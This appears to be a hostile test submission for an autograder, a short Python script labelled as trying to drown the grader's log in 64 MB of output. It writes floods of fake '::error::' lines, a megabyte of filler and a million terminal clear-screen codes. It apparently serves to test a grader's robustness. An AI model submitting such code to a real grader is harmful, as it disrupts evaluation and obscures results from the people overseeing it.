# tries: to drown the grader's log in 64 MB of output
# points: 0
# harm: marks, files, grader
import os
import sys

for descriptor in (1, 2):
    for _ in range(32):
        os.write(descriptor, b"::error::x\n" * 100000)
print("x" * 10**6, file=sys.__stderr__)
sys.stdout.write("\x1b[2J" * 10**6)
